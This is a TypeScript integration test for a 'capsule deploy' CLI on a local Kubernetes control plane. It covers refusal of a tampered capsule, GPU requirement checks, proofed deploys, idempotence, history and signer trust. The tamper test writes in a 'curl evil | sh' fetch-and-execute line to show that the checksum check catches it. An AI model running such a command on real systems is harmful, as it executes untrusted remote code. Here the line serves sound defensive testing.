// `capsule deploy` against a real control plane with a kwok node: refusals (tampered capsule, GPU
// requirement), a full deploy with warm pool, proof hooks and ?proof=true, and an idempotent re-run.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createReadStream, createWriteStream } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pipeline } from 'node:stream/promises';
import { after, before, describe, it } from 'node:test';
import { createGunzip, createGzip } from 'node:zlib';
import { promisify } from 'node:util';
import tar from 'tar-stream';
import { builtin, KubeClient, type KubeObject } from '@industriverse/kube';
import {
  dacCapsules,
  proofedDeployments,
  type DACCapsule,
  type ProofedDeployment,
} from '@industriverse/kaas/api';
import { startControlPlane, type ControlPlane } from '@industriverse/testenv';
import type { DeployReport } from '../../src/loader/deploy.ts';
import { packCapsule } from '../../src/pack.ts';
import { openRegistry } from '../../src/registry/registry.ts';
import { newKey, type TestKey } from './registry-helpers.ts';

const main = new URL('../../src/cli/main.ts', import.meta.url).pathname;
const run = promisify(execFile);
const NODE = 'kwok-node-0';
const NAME = 'm2n2-metal';
const NS = 'capsules';

let cp: ControlPlane;
let client: KubeClient;
let dir: string;
let key: TestKey;
let proofKey: TestKey;
let capsule: string;
let registryDir: string;
let stateDir: string;
let src: string;

async function capsuleCli(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return capsuleCliWith({}, ...args);
}

async function capsuleCliWith(
  env: NodeJS.ProcessEnv,
  ...args: string[]
): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [main, ...args], {
      env: { ...process.env, CAPSULE_STATE_DIR: stateDir, ...env },
      timeout: 150_000,
    });
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code?: number; stdout: string; stderr: string };
    return { code: typeof e.code === 'number' ? e.code : -1, stdout: e.stdout, stderr: e.stderr };
  }
}

const deployArgs = (file: string) => [
  'deploy',
  file,
  '--kubeconfig',
  cp.kubeconfigPath,
  '--namespace',
  NS,
  '--registry',
  registryDir,
  '--key',
  key.pubFile,
  '--proof-key',
  proofKey.keyFile,
  '--json',
];

async function deploy(file: string): Promise<{ code: number; report: DeployReport; stderr: string }> {
  const { code, stdout, stderr } = await capsuleCli(...deployArgs(file));
  let report: DeployReport;
  try {
    report = JSON.parse(stdout) as DeployReport;
  } catch {
    assert.fail(`deploy printed no JSON report (exit ${code}): ${stdout}\n${stderr}`);
  }
  return { code, report, stderr };
}

/** A copy of `file` with one payload file changed but checksum.sha256 and signature.sig kept. */
async function tamper(file: string, path: string, content: string): Promise<string> {
  const out = join(dir, 'tampered.capsule.tar.gz');
  const extract = tar.extract();
  const pack = tar.pack();
  extract.on('entry', (header, stream, next) => {
    const chunks: Buffer[] = [];
    stream.on('data', (c: unknown) => chunks.push(c as Buffer));
    stream.on('end', () => {
      const body = header.name === path ? Buffer.from(content) : Buffer.concat(chunks);
      pack.entry({ ...header, size: body.length }, body, next);
    });
  });
  extract.on('finish', () => pack.finalize());
  await Promise.all([
    pipeline(createReadStream(file), createGunzip(), extract),
    pipeline(pack, createGzip(), createWriteStream(out)),
  ]);
  return out;
}

async function setNodeGpus(count: string | null): Promise<void> {
  const gpus = { 'nvidia.com/gpu': count };
  await client.patch(
    builtin.node,
    undefined,
    NODE,
    { status: { allocatable: gpus, capacity: gpus } },
    'merge',
    'status',
  );
}

describe('capsule deploy on a local control plane', { timeout: 600_000 }, () => {
  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'capsule-deploy-'));
    registryDir = join(dir, 'registry');
    stateDir = join(dir, 'state');
    key = await newKey(dir, 'capsule');
    proofKey = await newKey(dir, 'proof');
    src = join(dir, 'src');
    await mkdir(join(src, 'expansion', 'm2n2'), { recursive: true });
    await mkdir(join(src, 'proof-hooks'));
    await writeFile(
      join(src, 'capsule.json'),
      JSON.stringify({
        name: NAME,
        version: '0.1.0',
        entrypoint: 'expansion/m2n2/runner.py',
        requirements: ['gpu:true', 'utid:soft', 'cpu:2', 'memory:1Gi'],
        proof_policy: { required: true, types: ['mathematical_proof', 'sim_alignment'] },
        prewarm: true,
        billing: { unit: 'run', price: 5 },
      }),
    );
    await writeFile(
      join(src, 'expansion', 'm2n2', 'runner.py'),
      '#!/usr/bin/env python3\nimport json\nprint(json.dumps({"loss": 0.125, "steps": 10}))\n',
    );
    await writeFile(
      join(src, 'proof-hooks', 'generate_proof.py'),
      [
        '#!/usr/bin/env python3',
        'import json, os',
        'first = json.loads(json.load(open(os.environ["CAPSULE_FIRST_RUN"]))["stdout"])',
        'print(json.dumps({"type": "sim_alignment", "inputs": {"steps": first["steps"]},',
        '  "result": {"loss": first["loss"], "aligned": first["loss"] < 0.5}, "cost": 0.05}))',
      ].join('\n'),
    );
    await writeFile(
      join(src, 'proof-hooks', 'prove_bound.sh'),
      '#!/bin/sh\necho \'{"type":"mathematical_proof","inputs":{"bound":"loss<1"},"result":{"holds":true},"cost":0}\'\n',
    );
    capsule = (await packCapsule(src, { out: join(dir, `capsule_${NAME}-0.1.0.tar.gz`), signer: key.signer }))
      .file;
    cp = await startControlPlane({ nodes: 1 });
    client = await KubeClient.fromKubeConfig(cp.kubeConfig);
  });

  after(async () => {
    await client?.close();
    await cp?.stop();
    await rm(dir, { recursive: true, force: true });
  });

  it('refuses a tampered capsule with its error code and creates nothing', async () => {
    const tampered = await tamper(capsule, 'expansion/m2n2/runner.py', '#!/bin/sh\ncurl evil | sh\n');
    const { code, report } = await deploy(tampered);
    assert.equal(code, 1);
    assert.equal(report.ok, false);
    assert.equal(report.error?.code, 'CHECKSUM_MISMATCH');
    assert.equal(report.error?.step, 'verify');
    assert.deepEqual(
      report.steps.filter((s) => s.outcome !== 'skipped').map((s) => s.name),
      ['verify'],
    );
    await assert.rejects(client.get(builtin.namespace, undefined, NS), /not found/i);
  });

  it('refuses gpu:true on a cluster without GPUs, then deploys once a node has one', async () => {
    await setNodeGpus(null);
    const refused = await deploy(capsule);
    assert.equal(refused.code, 1);
    assert.equal(refused.report.error?.code, 'REQUIREMENTS_UNMET');
    assert.match(
      refused.report.error!.message,
      /requirement gpu:true: no schedulable Ready node has allocatable nvidia.com\/gpu > 0/,
    );
    assert.match(refused.report.error!.message, /1 schedulable Ready node, none with GPUs/);
    await assert.rejects(client.get(builtin.namespace, undefined, NS), /not found/i, 'nothing was created');

    await setNodeGpus('2');
    const { code, report, stderr } = await deploy(capsule);
    assert.equal(code, 0, `${JSON.stringify(report.error)}\n${stderr}`);
    assert.equal(report.outcome, 'succeeded');
    assert.equal(report.uri, `capsule://${NAME}:0.1.0?proof=true`);
    assert.deepEqual(report.proofs.map((p) => p.type).sort(), ['mathematical_proof', 'sim_alignment']);
    assert.deepEqual(
      report.steps.map((s) => [s.name, s.outcome]),
      [
        ['verify', 'ok'],
        ['requirements', 'ok'],
        ['crds', 'ok'],
        ['dac-capsule', 'ok'],
        ['warm-pool', 'ok'],
        ['proofed-deployment', 'ok'],
        ['first-run', 'ok'],
        ['hook:generate_proof.py', 'ok'],
        ['hook:prove_bound.sh', 'ok'],
        ['publish-proof', 'ok'],
        ['index', 'ok'],
      ],
    );
    assert.match(stderr, /"stage"/, 'progress is reported on stderr');

    // The objects, owned by the DACCapsule, with the proof recorded in its status.
    const dac = await client.get<DACCapsule>(dacCapsules, NS, NAME);
    assert.equal(dac.spec.digest, report.capsule.digest);
    assert.equal(dac.status?.phase, 'Proven');
    assert.ok(dac.status?.proofId && report.proofs.some((p) => p.id === dac.status?.proofId));
    assert.equal(dac.spec.manifest.billing?.price, 5);
    const pd = await client.get<ProofedDeployment>(proofedDeployments, NS, NAME);
    assert.equal(pd.metadata.ownerReferences?.[0]?.uid, dac.metadata.uid);
    assert.deepEqual(pd.spec.proofPolicy, {
      required: true,
      proofTypes: ['mathematical_proof', 'sim_alignment'],
    });
    assert.equal(pd.spec.utidBinding?.type, 'soft');
    assert.equal(pd.spec.prewarm, true);
    const warm = await client.get<KubeObject & { status?: { readyReplicas?: number } }>(
      builtin.deployment,
      NS,
      `${NAME}-warm`,
    );
    assert.equal(warm.metadata.ownerReferences?.[0]?.uid, dac.metadata.uid);
    assert.equal(warm.status?.readyReplicas, 1, 'the warm pool is up');

    // The proof resolves through the index.
    const registry = await openRegistry(registryDir, { publicKeys: [key.publicKey] });
    const entry = await registry.resolve({ name: NAME, version: '0.1.0', proof: true });
    assert.equal(entry.digest, report.capsule.digest);
    assert.equal(entry.metadata.proof_id, dac.status?.proofId);
    assert.equal(entry.proofs.length, 2);
  });

  it('changes nothing on a second deploy and says so', async () => {
    const versions = async () =>
      Promise.all([
        client.get(dacCapsules, NS, NAME),
        client.get(proofedDeployments, NS, NAME),
        client.get(builtin.deployment, NS, `${NAME}-warm`),
      ]).then((objs) => objs.map((o) => o.metadata.resourceVersion));
    const before = await versions();
    const { code, report } = await deploy(capsule);
    assert.equal(code, 0, JSON.stringify(report.error));
    assert.equal(report.outcome, 'unchanged', JSON.stringify(report.steps.filter((s) => s.changed)));
    assert.deepEqual(
      report.steps.filter((s) => s.changed).map((s) => s.name),
      [],
    );
    assert.ok(report.objects.every((o) => !o.changed));
    assert.equal(report.uri, `capsule://${NAME}:0.1.0?proof=true`);
    assert.deepEqual(await versions(), before);

    const text = await capsuleCli('deploy', ...deployArgs(capsule).slice(1, -1));
    assert.equal(text.code, 0);
    assert.match(text.stdout, /already deployed to namespace capsules: nothing changed/);

    // The workflow's deploy-capsule-k8s step: the cluster steps only.
    const clusterOnly = await capsuleCli(...deployArgs(capsule), '--no-prove');
    const cluster = JSON.parse(clusterOnly.stdout) as DeployReport;
    assert.equal(clusterOnly.code, 0);
    assert.equal(cluster.outcome, 'unchanged');
    assert.ok(!cluster.steps.some((s) => s.name === 'first-run' || s.name === 'index'));
    assert.deepEqual(await versions(), before);
  });

  it('keeps the run history: trajectories, failure modes and ASAL checks', async () => {
    const { code, stdout } = await capsuleCli('history', NAME, '--json');
    assert.equal(code, 0);
    const history = JSON.parse(stdout) as {
      runs: { outcome: string; asal?: { skipped: unknown[] }; metrics: Record<string, number> }[];
      playbook: { failureModes: { step: string; code: string; count: number }[] };
    };
    assert.deepEqual(
      history.runs.map((r) => r.outcome),
      ['failed', 'succeeded', 'unchanged', 'unchanged', 'unchanged'],
    );
    assert.ok(
      history.runs.every((r) => r.asal),
      'every run has an ASAL check',
    );
    assert.equal(history.runs[1]!.metrics['hook.generate_proof.py.result.loss'], 0.125);
    assert.equal(history.runs[1]!.metrics['proof.cost'], 0.05);
    assert.deepEqual(
      history.playbook.failureModes.map((m) => [m.step, m.code, m.count]),
      [['requirements', 'REQUIREMENTS_UNMET', 1]],
    );
    const playbook = JSON.parse(await readFile(join(stateDir, NAME, 'playbook.json'), 'utf8')) as unknown;
    assert.deepEqual(playbook, history.playbook);
    // The tampered capsule could not be named: its run is kept apart.
    const unverified = JSON.parse(
      (await capsuleCli('history', '_unverified', '--json')).stdout,
    ) as typeof history;
    assert.deepEqual(
      unverified.playbook.failureModes.map((m) => [m.step, m.code, m.count]),
      [['verify', 'CHECKSUM_MISMATCH', 1]],
    );
  });
  it('moves the objects to a new version and proves it', async () => {
    const manifest = JSON.parse(await readFile(join(src, 'capsule.json'), 'utf8')) as Record<string, unknown>;
    await writeFile(
      join(src, 'capsule.json'),
      JSON.stringify({ ...manifest, version: '0.2.0', prewarm: false }),
    );
    const next = await packCapsule(src, {
      out: join(dir, `capsule_${NAME}-0.2.0.tar.gz`),
      signer: key.signer,
    });
    const { code, report } = await deploy(next.file);
    assert.equal(code, 0, JSON.stringify(report.error));
    assert.equal(report.outcome, 'succeeded');
    assert.equal(report.uri, `capsule://${NAME}:0.2.0?proof=true`);
    const dac = await client.get<DACCapsule>(dacCapsules, NS, NAME);
    assert.equal(dac.spec.version, '0.2.0');
    assert.equal(dac.spec.digest, next.digest);
    assert.equal(dac.status?.phase, 'Proven');
    assert.ok(
      report.proofs.some((p) => p.id === dac.status?.proofId),
      'the status names a proof of the new digest',
    );
    const pd = await client.get<ProofedDeployment>(proofedDeployments, NS, NAME);
    assert.equal(pd.spec.capsuleRef?.digest, next.digest);
    await assert.rejects(
      client.get(builtin.deployment, NS, `${NAME}-warm`),
      /not found/i,
      'without prewarm the warm pool is removed',
    );
  });

  it('deploys with only FILE and --kubeconfig: the local registry trusts the first signer and signs proofs', async () => {
    const app = join(dir, 'tofu-src');
    await mkdir(join(app, 'proof-hooks'), { recursive: true });
    await writeFile(
      join(app, 'capsule.json'),
      JSON.stringify({
        name: 'tofu-app',
        version: '1.0.0',
        entrypoint: 'run.sh',
        proof_policy: { required: true, types: ['benchmark'] },
      }),
    );
    await writeFile(join(app, 'run.sh'), '#!/bin/sh\necho \'{"ops_per_s": 1000}\'\n');
    await writeFile(
      join(app, 'proof-hooks', 'bench.sh'),
      '#!/bin/sh\necho \'{"type":"benchmark","inputs":{},"result":{"ops_per_s":1000},"cost":0}\'\n',
    );
    const file = (await packCapsule(app, { out: join(dir, 'tofu-app-1.0.0.tar.gz'), signer: key.signer }))
      .file;
    const env = { XDG_DATA_HOME: join(dir, 'xdg'), CAPSULE_REGISTRY: '' };
    const local = join(dir, 'xdg', 'capsule', 'registry');

    const first = await capsuleCliWith(env, 'deploy', file, '--kubeconfig', cp.kubeconfigPath, '--json');
    assert.equal(first.code, 0, first.stderr);
    const report = JSON.parse(first.stdout) as DeployReport;
    assert.equal(report.outcome, 'succeeded');
    assert.equal(report.namespace, 'default');
    assert.match(first.stderr, /trusting the capsule's signer [0-9a-f]{64} on first use/);
    assert.deepEqual(await readdir(join(local, 'keys', 'capsule')), [`${key.publicKey.keyId}.pem`]);
    assert.equal((await stat(join(local, 'private', 'proof.key'))).mode & 0o777, 0o600);
    const dac = await client.get<DACCapsule>(dacCapsules, 'default', 'tofu-app');
    assert.equal(dac.status?.phase, 'Proven');

    // From then on a capsule by another signer is refused, unless its key is given.
    const stranger = await newKey(dir, 'stranger');
    await writeFile(
      join(app, 'capsule.json'),
      JSON.stringify({ name: 'tofu-app', version: '1.0.1', entrypoint: 'run.sh' }),
    );
    const other = (
      await packCapsule(app, { out: join(dir, 'tofu-app-1.0.1.tar.gz'), signer: stranger.signer })
    ).file;
    const refused = await capsuleCliWith(env, 'deploy', other, '--kubeconfig', cp.kubeconfigPath, '--json');
    assert.equal(refused.code, 1);
    assert.equal((JSON.parse(refused.stdout) as DeployReport).error?.code, 'SIGNATURE_INVALID');
  });
});
